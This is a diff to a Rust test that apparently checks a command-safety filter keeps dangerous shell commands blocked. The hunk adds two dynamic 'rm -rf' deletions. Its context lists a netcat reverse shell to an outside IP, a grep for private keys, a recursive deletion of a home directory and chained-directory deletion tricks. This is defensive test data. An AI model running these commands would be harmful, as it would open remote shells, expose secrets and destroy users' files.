@@ -60,6 +60,9 @@ fn reviewed_fail_opens_stay_closed() {
         "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
         "grep -r PRIVATE ~",
         "python3 -c 'import shutil; shutil.rmtree(\"/home/u\")'",
+        // Final read of the change: a dynamic deletion with a path after it.
+        "rm -rf \"$X\"/",
+        "rm -rf \"$DIR/build\"",
         // Second review round.
         "sh -c 'cd .. && cd .. && cd .. && rm -rf .'",
         "eval 'cd ~; rm -rf .'",
